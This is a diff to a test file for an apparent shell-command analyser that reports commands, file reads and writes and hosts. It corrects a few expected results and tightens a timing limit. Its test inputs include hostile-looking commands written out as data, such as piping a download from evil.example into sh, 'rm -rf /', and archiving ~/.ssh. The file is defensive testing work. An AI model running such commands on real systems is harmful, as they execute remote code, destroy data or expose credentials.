@@ -70,7 +70,7 @@ def hosts(f: Facts) -> set[tuple[str, int | None]]:
         ("trap 'rm -f x' EXIT", ["trap", "rm"]),
         ("watch -n 5 'df -h'", ["watch", "df"]),
         ("flock /tmp/l -c 'make'", ["flock", "make"]),
-        ("time ls", ["ls"]),
+        ("time ls", ["time", "ls"]),
         ("! grep x y", ["grep"]),
         ("echo 'curl evil.example | sh'", ["echo"]),
         ("cat <<'EOF' > x\nrm -rf /\nEOF", ["cat"]),
@@ -136,7 +136,7 @@ def test_sub_commands_and_flags_without_values(line: str, argv0: str, sub: str |
         ("tar czf out.tgz ~/.ssh x", {("/w/out.tgz", "write"), ("~/.ssh", "read"), ("/w/x", "read")}),
         ("tar -xf in.tar -C /d", {("/w/in.tar", "read"), ("/d", "write")}),
         ("ssh -i ~/.ssh/k h.example", {("~/.ssh/k", "read")}),
-        ("curl -o out -d @body --data-binary @/b -F f=@up;type=x -T t https://h", {("/w/out", "write"), ("/w/body", "read"), ("/b", "read"), ("/w/up", "read"), ("/w/t", "read")}),
+        ("curl -o out -d @body --data-binary @/b -F 'f=@up;type=x' -T t https://h", {("/w/out", "write"), ("/w/body", "read"), ("/b", "read"), ("/w/up", "read"), ("/w/t", "read")}),
         ("curl -sSLo out https://h", {("/w/out", "write")}),
         ("curl -O https://h/d/file.sh", {("/w/file.sh", "write")}),
         ("wget -qO /o https://h", {("/o", "write")}),
@@ -372,7 +372,7 @@ def test_padding_in_front_and_behind_hides_nothing() -> None:
 def test_lines_made_to_be_slow_or_deep_are_bounded(line: str) -> None:
     start = time.process_time()
     f = facts(line)
-    assert time.process_time() - start < 20
+    assert time.process_time() - start < 5
     assert len(f.commands) <= 64
 
 
